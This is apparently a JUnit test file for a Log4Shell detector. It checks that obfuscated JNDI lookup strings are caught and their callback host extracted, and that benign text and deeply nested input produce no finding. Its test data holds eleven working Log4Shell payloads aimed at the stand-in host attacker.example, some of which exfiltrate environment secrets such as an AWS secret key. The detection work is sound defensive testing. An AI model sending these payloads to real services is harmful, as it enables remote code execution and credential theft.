package dev.moat.decoy;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class Log4ShellDetectorTest {

  @ParameterizedTest
  @CsvSource(delimiter = '|', value = {
      "${jndi:ldap://attacker.example:1389/a}|attacker.example:1389",
      "${jndi:rmi://attacker.example/Exploit}|attacker.example",
      "${${lower:j}ndi:ldap://attacker.example:1389/a}|attacker.example:1389",
      "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://attacker.example:1389/a}|attacker.example:1389",
      "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//attacker.example/a}|attacker.example",
      "${${upper:j}${lower:N}di:dns://attacker.example:53/x}|attacker.example:53",
      "%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%3A1389%2Fa%7D|attacker.example:1389",
      "%2524%257Bjndi%253Aldap%253A%252F%252Fattacker.example%252Fa%257D|attacker.example",
      "Mozilla/5.0 ${jNdI:LDAP://attacker.example:1389/${env:USER}} Firefox|attacker.example:1389",
      "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.attacker.example/a}|.attacker.example",
      "${${date:'j'}${date:'n'}di:ldap://attacker.example/a}|attacker.example",
  })
  void findsTheLookupThroughObfuscationAndExtractsTheCallbackHost(String payload, String host) {
    assertThat(Log4ShellDetector.find(payload)).hasValueSatisfying(f -> assertThat(f.callbackHost()).isEqualTo(host));
  }

  @ParameterizedTest
  @ValueSource(strings = {"Mozilla/5.0 (X11; Linux x86_64)", "${user.home}", "price: $5 {discount}", "%7B%7D", "${env:HOME}",
      "jndi:ldap://not-a-lookup"})
  void leavesOrdinaryTextAlone(String text) {
    assertThat(Log4ShellDetector.find(text)).isEmpty();
  }

  @org.junit.jupiter.api.Test
  void aDeeplyNestedInputEndsWithoutAFinding() {
    String nested = "${".repeat(5000) + "x" + "}".repeat(5000);
    assertThat(Log4ShellDetector.find(nested)).isEmpty();
  }
}
